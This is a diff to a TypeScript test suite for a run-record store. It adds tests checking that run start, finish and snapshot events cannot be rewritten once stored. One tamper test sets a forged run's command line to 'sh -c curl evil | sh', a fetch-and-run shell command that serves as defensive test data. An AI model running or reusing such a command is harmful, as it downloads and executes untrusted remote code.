@@ -6,7 +6,7 @@ import { after, before, describe, it } from "node:test";
 import type { RunQuery } from "../../core/api-types.js";
 import { snapshotDigest } from "../../core/digest.js";
 import type { OutputFile, SnapshotEvent } from "../../core/model.js";
-import type { Store } from "../../collector/store/store.js";
+import { isRefusal, type Store, type StoreOutcome } from "../../collector/store/store.js";
 import { capturedEvent, codeSnapshot, envSnapshot, finishedEvent, hostSnapshot, startedEvent } from "../helpers/collector-fixtures.js";
 
 /** Opens an empty store of the backend under test; each call must be isolated from the others. */
@@ -329,7 +329,10 @@ export function storeContract(name: string, fresh: FreshStore): void {
         await store.append(all.map((i) => capturedEvent(id(i), { environment: i === 5 || i === 17 || i === 290 ? env2 : env1 }, { time: startOf(i) + 100 })));
         await store.append(all.map((i) => finishedEvent(id(i), { time: startOf(i) + 60_000, exitCode: i % 7 === 0 ? 1 : 0 })));
         await store.append(all.filter(moved).map((i) => startedEvent(id(i), { time: sortOf(i), pipeline: "p", step: "moved" })));
-        await store.append([capturedEvent(id(290), { environment: env1 }, { eventId: `${id(290)}#again`, time: startOf(290) + 200 })]);
+        // A second capture naming another environment for run 290 is refused: the run stays on pydantic 2.
+        const [again] = await store.append([capturedEvent(id(290), { environment: env1 }, { eventId: `${id(290)}#again`, time: startOf(290) + 200 })]);
+        assert.equal(isRefusal(again!) && again.outcome, "REFUSED");
+        const pydantic2 = (i: number) => i === 5 || i === 17 || i === 290;
 
         const expect = (keep: (i: number) => boolean, limit: number) =>
           all
@@ -343,8 +346,8 @@ export function storeContract(name: string, fresh: FreshStore): void {
           assert.deepEqual(await ids({ pipeline: "p", step: "s1", limit }), expect((i) => stepOf(i) === "s1", limit), `step s1, limit ${limit}`);
           assert.deepEqual(await ids({ pipeline: "p", step: "moved", limit }), expect(moved, limit), `moved, limit ${limit}`);
           assert.deepEqual(await ids({ step: "moved", limit }), expect(moved, limit), `step only, limit ${limit}`);
-          assert.deepEqual(await ids({ package: "pydantic", version: ">=2", limit }), expect((i) => i === 5 || i === 17, limit), `pydantic 2, limit ${limit}`);
-          assert.deepEqual(await ids({ package: "pydantic", version: "2.7.1", limit }), expect((i) => i === 5 || i === 17, limit), `exact, limit ${limit}`);
+          assert.deepEqual(await ids({ package: "pydantic", version: ">=2", limit }), expect(pydantic2, limit), `pydantic 2, limit ${limit}`);
+          assert.deepEqual(await ids({ package: "pydantic", version: "2.7.1", limit }), expect(pydantic2, limit), `exact, limit ${limit}`);
           assert.deepEqual(await ids({ status: "failed", limit }), expect((i) => i % 7 === 0, limit), `failed, limit ${limit}`);
         }
         assert.deepEqual(await ids({ pipeline: "", step: "" }), []);
@@ -370,6 +373,7 @@ export function storeContract(name: string, fresh: FreshStore): void {
       }));
 
     outputsContract(fresh);
+    immutableRunsContract(fresh);
   });
 }
 
@@ -475,5 +479,90 @@ function outputsContract(fresh: FreshStore): void {
       assert.deepEqual(await store.findCacheHits(KEY, 10), []);
       await store.append([finished!]);
       assert.deepEqual((await store.findCacheHits(KEY, 10)).map((h) => h.run.runId), ["slow"]);
+    }));
+}
+
+const refusal = (outcome: StoreOutcome | undefined): string => (outcome !== undefined && isRefusal(outcome) ? outcome.reason : `not refused: ${JSON.stringify(outcome)}`);
+
+/**
+ * A run is an audit record: each part (start, one snapshot slot per kind, finish) is written
+ * once. A resend of a part is a DUPLICATE; an event contradicting a part is refused and nothing
+ * of it stored. Several writers of one job add parts or runs of their own (a job run with step
+ * runs beneath it, parent_run_id), never overwrite one another.
+ */
+function immutableRunsContract(fresh: FreshStore): void {
+  const RUN = "slurm:c/12";
+  const T = 1_714_000_000_000;
+
+  void it("refuses a second, different run_started: the run keeps its command line", () =>
+    withStore(fresh, async (store) => {
+      await store.append(fullRun(RUN, { numpy: "1.26.4" }));
+      const before = await store.getRun(RUN);
+      const rewrite = startedEvent(RUN, { eventId: "rewrite#started", hostname: "attacker" });
+      rewrite.runStarted!.config!.argv = ["sh", "-c", "curl evil | sh"];
+      const [outcome] = await store.append([rewrite]);
+      assert.match(refusal(outcome), /^run slurm:c\/12 already has a different run_started \(argv "python train.py --lr 0.1"\); a run is an audit record written once$/);
+      assert.deepEqual(await store.getRun(RUN), before);
+    }));
+
+  void it("treats an identical resend under a new event id as DUPLICATE, whatever time it claims", () =>
+    withStore(fresh, async (store) => {
+      const events = fullRun(RUN, { numpy: "1.26.4" });
+      await store.append(events);
+      const before = await store.getRun(RUN);
+      const resent = events.map((e, i) => ({ ...e, eventId: `resent-${i}`, timeUnixMs: T + 5 + i }));
+      assert.deepEqual(await store.append(resent), ["DUPLICATE", "DUPLICATE", "DUPLICATE"]);
+      assert.deepEqual(await store.getRun(RUN), before);
+      assert.equal((await store.getRun(RUN))?.events.length, 3);
+    }));
+
+  void it("refuses a second, different run_finished: a succeeded run stays succeeded, even against an earlier claimed time", () =>
+    withStore(fresh, async (store) => {
+      await store.append(fullRun(RUN, { numpy: "1.26.4" }));
+      const [outcome] = await store.append([finishedEvent(RUN, { eventId: "rewrite#finished", exitCode: 1, time: T + 1 })]);
+      assert.match(refusal(outcome), /already has a different run_finished \(exit 0\)/);
+      const run = await store.getRun(RUN);
+      assert.equal(run?.status, "succeeded");
+      assert.equal(run?.exitCode, 0);
+      assert.equal(run?.finishedAt, new Date(T + 60_000).toISOString());
+      assert.deepEqual(run?.events.map((e) => e.eventId).sort(), [`${RUN}#captured`, `${RUN}#finished`, `${RUN}#started`]);
+    }));
+
+  void it("lets a capture add snapshot kinds and warnings, and refuses one naming another digest for a kind held", () =>
+    withStore(fresh, async (store) => {
+      const env = { body: envSnapshot({ numpy: "1.26.4" }) };
+      // Two writers of one run: one records the environment and code, another the host.
+      await store.append([startedEvent(RUN), capturedEvent(RUN, { environment: env, code: { body: codeSnapshot("abc123") } }, { eventId: "task-prolog" })]);
+      assert.deepEqual(await store.append([capturedEvent(RUN, { host: { body: hostSnapshot("node-9") } }, { eventId: "prolog" })]), ["STORED"]);
+      // Naming the held environment again, with a new warning: stored (it adds the warning).
+      const warned = capturedEvent(RUN, { environment: { ...env, omitBody: true } }, { eventId: "late", warnings: [{ source: "python", message: "slow" }] });
+      assert.deepEqual(await store.append([warned]), ["STORED"]);
+      assert.deepEqual(await store.append([{ ...warned, eventId: "late-again" }]), ["DUPLICATE"]);
+      const before = await store.getRun(RUN);
+      assert.equal(before?.host?.hostname, "node-9");
+      assert.equal(before?.gitCommit, "abc123");
+      assert.deepEqual(before?.warnings, [{ source: "python", message: "slow" }]);
+      // Another environment and another code snapshot, plus a warning: the whole event is refused.
+      const other = capturedEvent(RUN, { environment: { body: envSnapshot({ numpy: "2.0.0" }) }, code: { body: codeSnapshot("evil") } }, { eventId: "rewrite", warnings: [{ source: "x", message: "y" }] });
+      const [outcome] = await store.append([other]);
+      assert.match(refusal(outcome), new RegExp(`already has a different environment snapshot \\(${before?.environmentDigest}, not sha256:`));
+      assert.deepEqual(await store.getRun(RUN), before);
+      assert.deepEqual((await store.listRuns({ package: "numpy", version: "2.0.0" })).map((r) => r.runId), []);
+    }));
+
+  void it("stores the first of two conflicting events in one batch and refuses the second", () =>
+    withStore(fresh, async (store) => {
+      const outcomes = await store.append([
+        startedEvent(RUN),
+        finishedEvent(RUN, { eventId: "a", exitCode: 0 }),
+        finishedEvent(RUN, { eventId: "b", exitCode: 1 }),
+        finishedEvent(RUN, { eventId: "c", exitCode: 0 }),
+      ]);
+      assert.deepEqual(outcomes.slice(0, 2), ["STORED", "STORED"]);
+      assert.match(refusal(outcomes[2]), /already has a different run_finished \(exit 0\)/);
+      assert.equal(outcomes[3], "DUPLICATE");
+      assert.equal((await store.getRun(RUN))?.status, "succeeded");
+      // The refused event's id was never stored: sent again, it is judged (and refused) again.
+      assert.match(refusal((await store.append([finishedEvent(RUN, { eventId: "b", exitCode: 1 })]))[0]), /run_finished/);
     }));
 }
